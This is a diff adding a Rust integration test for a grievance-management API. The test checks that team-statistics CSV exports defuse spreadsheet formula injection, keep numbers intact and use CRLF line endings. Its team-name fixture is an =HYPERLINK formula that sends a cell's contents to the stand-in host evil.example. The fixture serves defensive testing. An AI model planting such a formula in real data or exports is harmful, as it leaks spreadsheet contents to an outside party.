@@ -204,3 +204,51 @@ on_both_backends! {
         app.stop().await;
     }
 }
+
+crate::both_backends! {
+    async fn scorecard_exports_are_safe_in_a_spreadsheet_and_targets_read_as_set(app) {
+        let evil = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")";
+        let (s, team) = app.admin_json(Method::POST, "/api/v1/teams", Some(&json!({"name": evil}))).await;
+        assert_eq!(s, 201, "{team}");
+        let (s, _) = app.admin_json(Method::POST, "/api/v1/categories", Some(&json!({
+            "code": "evil", "name": "악성", "kind": "grievance", "default_team_id": team["id"],
+            "deadline": {"amount": 7, "unit": "days"}}))).await;
+        assert_eq!(s, 201);
+        // Three answered grievances: a target weighed by three responses.
+        for i in 0..3 {
+            let mut b = grievance(&format!("민원 {i}"));
+            b["category"] = json!("evil");
+            let (_, c) = app.admin_json(Method::POST, "/api/v1/cases", Some(&b)).await;
+            let id = c["id"].as_str().unwrap();
+            let (s, _) = app.admin_json(Method::POST, &format!("/api/v1/cases/{id}/resolve"), Some(&json!({"resolution": "완료"}))).await;
+            assert_eq!(s, 200);
+            let (s, _) = app.admin_json(Method::POST, &format!("/api/v1/cases/{id}/survey"),
+                Some(&json!({"process_score": 5, "result_score": 4, "channel": "phone"}))).await;
+            assert_eq!(s, 201);
+        }
+        let year = chrono::Utc::now().with_timezone(&chrono_tz::Asia::Seoul).format("%Y").to_string();
+        let (s, _) = app.admin_json(Method::PUT, &format!("/api/v1/targets/{year}/grievance"), Some(&json!({"satisfaction_rate": 0.764}))).await;
+        assert!(s == 200 || s == 201);
+
+        let r = app.admin(Method::GET, "/api/v1/stats/teams").send().await.unwrap();
+        let text = r.text().await.unwrap();
+        let v: Value = serde_json::from_str(&text).unwrap();
+        let row = v["items"].as_array().unwrap().iter().find(|t| t["team"]["name"] == evil).unwrap().to_string();
+        assert!(row.contains("\"target\":0.764,"), "{row}");
+
+        let r = app.admin(Method::GET, "/api/v1/stats/teams?format=csv").send().await.unwrap();
+        let bytes = r.bytes().await.unwrap();
+        let csv = String::from_utf8(bytes[3..].to_vec()).unwrap();
+        assert!(csv.contains("'=HYPERLINK"), "{csv}");
+        assert!(!csv.contains(",=HYPERLINK") && !csv.contains("\"=HYPERLINK"), "{csv}");
+        assert!(csv.ends_with("\r\n") && csv.matches('\n').count() == csv.matches("\r\n").count(), "CRLF lines");
+        let last = csv.trim_end().lines().last().unwrap();
+        assert!(last.contains("합계 (total)"), "{last}");
+        // Numbers stay numbers.
+        let mut reader = csv::Reader::from_reader(csv.as_bytes());
+        let header = reader.headers().unwrap().clone();
+        let resolved = header.iter().position(|h| h == "resolved").unwrap();
+        let evil_row = reader.records().map(|r| r.unwrap()).find(|r| r[1].starts_with("'=")).unwrap();
+        assert_eq!(&evil_row[resolved], "3");
+    }
+}
